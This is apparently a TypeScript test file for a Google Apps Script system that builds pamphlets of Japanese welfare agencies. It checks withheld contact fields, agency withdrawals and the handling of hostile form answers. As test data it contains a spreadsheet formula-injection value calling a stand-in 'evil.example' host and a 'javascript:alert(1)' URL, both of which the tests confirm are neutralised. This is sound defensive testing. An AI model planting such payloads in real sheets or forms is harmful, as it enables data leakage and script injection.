/**
 * The built bundle driven as Apps Script would (RPCs on the emulator): after a round, a withheld field never reaches
 * the pamphlet — Doc, PDF, preview — and a withdrawal takes the agency out of the next pamphlet while the review names
 * the issued pamphlet that still lists it. Hostile answers: a formula-looking and an over-long 特色 stay text.
 */
import type { PamphletPreview, PamphletResult, RoundDecisionResult, RoundReviewData, RpcResult } from '../../../../src/protocol';
import { reviewView } from '../../../../src/server/domain/agency-round-view';
import { documentText } from '../../../support/pamphlet';
import { ok, sheetRecords } from '../../../support/forms';
import { roundWorld } from '../../../support/agency-round';

type Emu = ReturnType<typeof roundWorld>;
const review = (emu: Emu) => reviewView(ok(emu.run<RpcResult<RoundReviewData>>('rpcReviewAgencyRound')));
const decideAll = (emu: Emu) => {
  for (const a of review(emu).agencies.filter((x) => x.state === 'answered')) {
    ok(emu.run<RpcResult<RoundDecisionResult>>('rpcDecideAgencyRound', [{ agencyId: a.id, answerKey: a.answerKey, accept: a.changes.map((c) => c.key) }]));
  }
};

test('withheld e-mail absent from Doc, PDF and preview; a withdrawal leaves the next pamphlet and is named in the review', () => {
  const emu = roundWorld();
  ok(emu.run<RpcResult<unknown>>('rpcCreatePamphletTemplate'));
  const first = ok(emu.run<RpcResult<PamphletResult>>('rpcGeneratePamphlet', [{ issuedOn: '2026-11-01' }]));
  expect(first.included).toContain('ワークショップあかり');
  expect(documentText(emu, first.documentId)).toContain('info@aoba.example.jp');

  const links = new Map(ok(emu.run<RpcResult<{ links: { name: string; url: string }[] }>>('rpcRequestAgencyRound', [{}])).links.map((l) => [l.name, l.url]));
  const answer = (name: string, changes: Record<string, string | string[]>) => {
    const { formId, answers } = emu.forms.store.answersFromPrefilledUrl(links.get(name)!);
    emu.forms.submit(formId, { ...answers, ...changes });
  };
  answer('ワークサポートあおば', { 掲載しない項目: ['メール'], '同意者（役職）': '施設長' });
  answer('ワークショップあかり', { 掲載同意: '撤回' });
  const akariId = review(emu).agencies.find((a) => a.name === 'ワークショップあかり')!.id;
  expect(review(emu).agencies.find((a) => a.id === akariId)!.stillListedIn.map((p) => p.name)).toEqual([first.name]);
  decideAll(emu);

  const preview = ok(emu.run<RpcResult<PamphletPreview>>('rpcPreviewPamphlet'));
  const aoba = preview.groups.flatMap((g) => g.agencies).find((a) => a.name === 'ワークサポートあおば')!;
  expect(aoba.withheldFields).toEqual(['メール']);
  expect(preview.excluded).toContainEqual(expect.objectContaining({ name: 'ワークショップあかり', reason: '撤回' }));
  const second = ok(emu.run<RpcResult<PamphletResult>>('rpcGeneratePamphlet', [{ issuedOn: '2026-11-20' }]));
  const doc = documentText(emu, second.documentId);
  const pdf = emu.drive.files.get(second.pdfId)!.pdfText!.join('\n');
  for (const text of [doc, pdf, JSON.stringify(preview)]) expect(text).not.toContain('info@aoba.example.jp');
  expect(doc).toContain('ワークサポートあおば');
  expect(second.included).not.toContain('ワークショップあかり');
  // The review still names the first pamphlet for the withdrawn agency (it was issued; it cannot be unprinted).
  expect(review(emu).agencies.find((a) => a.id === akariId)!.stillListedIn.map((p) => p.name)).toEqual([first.name]);
  const row = sheetRecords(emu, '団体').find((r) => r['id'] === akariId)!;
  expect(row['掲載同意']).toBe('撤回');
  // The activity report counts the agencies that confirmed this fiscal year (最終確認日 in it): the two that answered.
  const report = ok(emu.run<RpcResult<{ documentId: string }>>('rpcCreateActivityReport'));
  expect(documentText(emu, report.documentId)).toContain('（新規加入 0団体、掲載情報の確認 2団体）');
});

test('hostile answers: a formula-looking 特色 is written as text, an over-long one whole; a blank required 名称 is refused', () => {
  const emu = roundWorld();
  const links = ok(emu.run<RpcResult<{ links: { name: string; url: string }[] }>>('rpcRequestAgencyRound', [{}])).links;
  const long = '丁寧な支援'.repeat(2000);
  const submit = (i: number, changes: Record<string, string>) => {
    const { formId, answers } = emu.forms.store.answersFromPrefilledUrl(links[i]!.url);
    emu.forms.submit(formId, { ...answers, ...changes });
  };
  submit(0, { 特色: '=IMPORTXML("http://evil.example/","//a")', 企業向け窓口: '+81 ' + '@x' });
  submit(1, { 特色: long });
  decideAll(emu);
  const sheet = emu.active.sheets.find((s) => s.name === '団体')!;
  const formulas = sheet.getDataRange().getFormulas().flat().filter((f) => f !== '');
  expect(formulas).toEqual([]);
  const rows = sheetRecords(emu, '団体');
  expect(rows[0]!['特色']).toBe('=IMPORTXML("http://evil.example/","//a")');
  expect(rows[1]!['特色']).toBe(long);
});

test('hostile answers the registry check refuses: said at 団体 row and column in Japanese, nothing written, the answer kept', () => {
  const emu = roundWorld();
  const links = ok(emu.run<RpcResult<{ links: { name: string; url: string }[] }>>('rpcRequestAgencyRound', [{}])).links;
  const { formId, answers } = emu.forms.store.answersFromPrefilledUrl(links[0]!.url);
  emu.forms.submit(formId, { ...answers, メール: 'info@@aoba', 電話: '03-5211', URL: 'javascript:alert(1)' });
  const a = review(emu).agencies.find((x) => x.state === 'answered')!;
  expect(a.changes.map((c) => [c.field, c.problem])).toEqual([['電話', 'phoneDigits'], ['メール', 'email'], ['URL', 'url']]);
  const before = sheetRecords(emu, '団体')[0]!;
  const r = ok(emu.run<RpcResult<RoundDecisionResult>>('rpcDecideAgencyRound', [{ agencyId: a.id, answerKey: a.answerKey, accept: ['phone', 'email', 'url'] }]));
  expect(r.refused).toEqual(['電話', 'メール', 'URL']);
  for (const p of r.problems) expect(p).toMatchObject({ sheet: '団体', row: a.row, message: expect.stringMatching(/[\u3040-\u30ff]/) });
  const after = sheetRecords(emu, '団体')[0]!;
  expect([after['電話'], after['メール'], after['URL']]).toEqual([before['電話'], before['メール'], before['URL']]);
  expect(sheetRecords(emu, '掲載情報の回答')[0]!['メール']).toBe('info@@aoba');
});
